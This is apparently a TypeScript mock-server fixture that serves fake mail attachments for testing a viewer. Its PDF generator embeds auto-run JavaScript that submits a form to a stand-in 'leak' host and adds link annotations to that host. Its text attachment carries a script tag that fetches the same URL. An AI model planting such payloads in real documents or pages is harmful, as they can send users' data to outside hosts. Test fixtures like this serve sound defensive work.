// Files of mails: a picture, a PDF that tries to run and to send, a text that looks like HTML.
import { HttpResponse } from 'msw'
import type { Attachment } from '../api/types'
import { pixel } from './picture'

const LEAK = 'https://elsewhere.example/leak'

/** Pages with a number on each; its script runs where a viewer lets it. */
function pdf(pages: number): string {
  const script = `app.alert\\('run'\\); this.submitForm\\('${LEAK}'\\);`
  const kids = Array.from({ length: pages }, (_, page) => `${3 + page * 2} 0 R`)
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script}) >> >>`,
    `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`,
    ...kids.flatMap((_, page) => {
      const text = `BT /F1 36 Tf 30 90 Td (Page ${page + 1}) Tj ET 1 0 0 rg 20 20 100 40 re f`
      const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${LEAK}) >> >>`
      const font = '<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents ${4 + page * 2} 0 R /Resources ${font} /Annots [${link}] >>`,
        `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
      ]
    }),
  ]
  let out = '%PDF-1.4\n'
  const offsets = objects.map((object, index) => {
    const at = out.length
    out += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const entries = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  return `${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF`
}

export function file(wanted: Attachment | undefined) {
  const type = wanted?.content_type ?? ''
  if (type === 'application/pdf')
    return new HttpResponse(pdf(12), { headers: { 'content-type': type } })
  if (type.startsWith('text/'))
    return new HttpResponse(`<script>fetch('${LEAK}')</script>\nVK-20481;braadpan;1\n`, {
      headers: { 'content-type': 'text/plain; charset=utf-8' },
    })
  return new HttpResponse(pixel(wanted?.id ?? ''), { headers: { 'content-type': 'image/bmp' } })
}

/** One without files: 22 bytes. */
export const zip = () =>
  new HttpResponse(new Uint8Array([0x50, 0x4b, 5, 6, ...Array<number>(18).fill(0)]), {
    headers: {
      'content-type': 'application/zip',
      'content-disposition': 'attachment; filename="ticket.zip"',
    },
  })
